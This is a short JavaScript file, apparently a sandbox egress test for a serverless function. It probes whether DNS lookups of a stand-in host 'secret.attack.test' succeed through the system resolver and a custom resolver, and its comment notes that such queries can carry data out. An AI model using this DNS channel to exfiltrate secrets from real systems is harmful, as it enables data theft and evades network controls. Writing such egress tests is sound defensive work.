// Asks name servers: the system's, by the C library, and one of its own choice. A question can carry data out.
const dns = require('dns')

async function lambda(input, callback) {
  const { ports } = input.payload
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 })
  resolver.setServers([`127.0.0.1:${ports.udp}`])
  callback(null, {
    'look up': await attempt(async () => (await dns.promises.lookup('secret.attack.test')).address),
    'resolve': await attempt(async () => (await resolver.resolve4('secret.attack.test'))[0]),
    'resolve text': await attempt(async () => (await resolver.resolveTxt('secret.attack.test'))[0]),
    'reverse': await attempt(async () => (await resolver.reverse('192.0.2.1'))[0]),
  })
}
